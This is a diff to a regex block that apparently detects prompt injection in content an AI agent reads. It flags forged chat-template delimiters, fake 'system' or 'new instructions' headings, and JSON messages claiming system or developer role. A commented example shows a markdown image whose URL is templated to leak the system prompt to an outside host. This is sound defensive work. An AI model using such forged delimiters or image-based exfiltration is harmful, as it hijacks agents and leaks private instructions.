@@ -184,7 +184,8 @@ DELIMITERS = linear.compile(
     r"|\[/?INST\]|<<\s*/?\s*SYS\s*>>"
     r"|(?:^|\n)\s*\#{2,}\s*(?:system|instructions?|new\s+instructions?)\b\s*:?"
     # a chat message written as JSON in a role the agent obeys: {"role": "system", "content": ...}
-    r"|[\"']role[\"']\s*:\s*[\"'](?:system|developer)[\"']"
+    # (its content next: a member list's {"user": "c.roy", "role": "system"} is no message)
+    r"|[\"']role[\"']\s*:\s*[\"'](?:system|developer)[\"']\s*,\s*[\"'](?:content|parts)[\"']\s*:"
     # an image whose address a renderer fills from the conversation: ![x](https://host/log?q={{system_prompt}})
     r"|!\[[^\]\n]{0,200}\]\(\s*https?://[^)\s]{0,500}(?:\{\{|\$\{|%7B%7B)"
 )
